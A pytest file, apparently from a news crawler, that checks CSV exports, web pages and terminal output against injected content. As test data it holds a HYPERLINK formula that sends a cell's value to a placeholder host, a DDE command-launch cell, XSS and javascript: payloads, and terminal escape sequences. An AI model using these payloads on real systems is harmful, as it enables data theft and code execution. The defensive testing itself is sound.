"""What a page says is shown, and nothing else: not run by a spreadsheet, a browser or a terminal."""

from __future__ import annotations

import asyncio
import csv
import io
import json
from contextlib import closing
from pathlib import Path

import httpx
import pytest
from rich.table import Table
from rich.text import Text

from crawler.glue.browsing import browsable
from crawler.glue.csv_cells import DefusedCsvExporter, defused
from crawler.glue.terminal import console, harmless, say, tell_json
from crawler.storage.database import open_database, transaction

FORMULA = '=HYPERLINK("http://x.example/?"&A1,"Depot hit")'
SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)>"
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31m\x9b5m\x08\x7f [bold red]Depot[/] \u202edih"


@pytest.mark.parametrize("cell", [FORMULA, "+1+cmd|'/C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1+1", "\n=1"])
def test_a_cell_that_begins_like_a_formula_is_text(cell: str) -> None:
    assert defused(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["Depot hit", "", "-1.5", "+7", "2026-11-21", "a=b", "'=1"])
def test_other_cells_stay_what_they_are(cell: str) -> None:
    assert defused(cell) == cell


def test_an_export_of_items_holds_no_formula() -> None:
    file = io.BytesIO()
    exporter = DefusedCsvExporter(file)
    exporter.start_exporting()
    exporter.export_item({"title": FORMULA, "score": -0.5, "names": ["=A1", "B"]})
    exporter.finish_exporting()
    assert list(csv.reader(io.StringIO(file.getvalue().decode()))) == [
        ["title", "score", "names"],
        [f"'{FORMULA}", "-0.5", "'=A1,B"],
    ]


@pytest.fixture(scope="module")
def database(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One article of a hostile site, and one of a plain one."""
    path = tmp_path_factory.mktemp("browse") / "news.db"
    with closing(open_database(path)) as db, transaction(db):
        for number, title in enumerate((FORMULA, SCRIPT, 'Two\n"lines", and -1')):
            row = {
                "source": SCRIPT,
                "title": title,
                "text": title,
                "url": f"javascript:alert({number})",
                "origin": "crawl",
            }
            db.table("articles").insert({**row, "key": str(number), "words_hash": "", "fetched_at": ""})
    return path


def asked(database: Path, address: str) -> str:
    """What the browser gets."""

    async def ask() -> str:
        transport = httpx.ASGITransport(app=browsable(database))  # type: ignore[arg-type]
        async with httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1") as client:
            answer = await client.get(address)
            assert answer.status_code == 200, answer.text
            return answer.text

    return asyncio.run(ask())


@pytest.mark.parametrize("address", ["articles.csv?_stream=on&_dl=1", "articles.csv", "originals.csv"])
def test_csv_of_the_browser_holds_no_formula(database: Path, address: str) -> None:
    rows = list(csv.DictReader(io.StringIO(asked(database, f"/news/{address}"), newline="")))
    assert {row["title"] for row in rows} == {f"'{FORMULA}", SCRIPT, 'Two\n"lines", and -1'}


@pytest.mark.parametrize(
    "address", ["articles", "articles/2", "articles?_facet=title&_search=alert", "originals?_format=csv"]
)
def test_a_page_of_the_browser_runs_nothing_of_an_article(database: Path, address: str) -> None:
    html = asked(database, f"/news/{address}")
    assert "alert(1)" in html
    assert "<script>alert" not in html
    assert "<img src=x" not in html
    assert 'href="javascript:' not in html


def test_a_terminal_obeys_nothing_of_a_title(capsys: pytest.CaptureFixture[str]) -> None:
    table = Table(title=ESCAPES)
    table.add_column(ESCAPES)
    table.add_row(ESCAPES)
    table.add_row(Text(ESCAPES))
    console().print(table, ESCAPES, Text(ESCAPES), sep="\n")
    say(f"tocsin: {ESCAPES}")
    tell_json({"title": ESCAPES})
    told = capsys.readouterr()
    shown = told.out + told.err
    assert [sign for sign in shown if sign != "\n" and not sign.isprintable()] == []
    assert told.out.count("[bold red]Depot[/]") == 7
    assert json.loads(told.out[told.out.index("{") :]) == {"title": ESCAPES}


def test_letters_of_all_scripts_lines_and_tabs_are_shown_as_they_are() -> None:
    text = "Горять дві цистерни\tحريق\nמצודה 🔥 naïve"
    assert harmless(text) == text
